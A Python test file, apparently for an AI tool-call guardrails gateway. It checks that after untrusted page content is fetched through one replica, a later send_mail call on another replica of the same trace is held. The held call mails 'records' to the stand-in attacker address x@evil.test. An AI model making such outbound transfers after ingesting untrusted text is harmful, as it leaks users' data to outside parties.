"""A session's flow labels are shared: untrusted text taken in through one replica parks a later
egress call of the same trace on another replica (no stickiness behind the balancer)."""

from __future__ import annotations

import uuid
from pathlib import Path

import yaml

from tests.governance.test_guardrails_gateway import _backend, _contract
from tests.shared_state.replicas import admin_key, replica_settings, replicas
from tests.support.loopback import serve_in_thread


async def test_untrusted_input_on_one_replica_parks_egress_on_another(
    tmp_path: Path, replica_database: str, redis_url: str, redis_prefix: str
) -> None:
    hits: list[str] = []
    with serve_in_thread(_backend(hits)) as backend_url:
        contract = tmp_path / "desk.yaml"
        contract.write_text(yaml.safe_dump(_contract(backend_url), sort_keys=False), encoding="utf-8")
        settings = [
            replica_settings(tmp_path, replica_database, redis_url, redis_prefix, n, contracts=[contract])
            for n in "ab"
        ]
        with replicas(settings) as (a, b):
            key = admin_key(a)
            trace = f"00-{uuid.uuid4().hex}-{uuid.uuid4().hex[:16]}-01"
            headers = {
                "authorization": f"Bearer {key}",
                "traceparent": trace,
                "colonnade-envelope-version": "2",
            }

            def call(replica: object, tool: str, **arguments: str) -> dict[str, object]:
                response = replica.client.post(  # type: ignore[attr-defined]
                    "/v1/calls", headers=headers, json={"tool_id": f"acme:desk:{tool}", "input": arguments}
                )
                return dict(response.json())

            assert call(a, "fetch_page")["status"] == "success"
            held = call(b, "send_mail", to="x@evil.test", text="records")
            assert held["status"] == "pending", held
            assert "/send" not in hits
            headers["traceparent"] = f"00-{uuid.uuid4().hex}-{uuid.uuid4().hex[:16]}-01"
            assert call(b, "send_mail", to="team@example.com", text="hi")["status"] == "success"
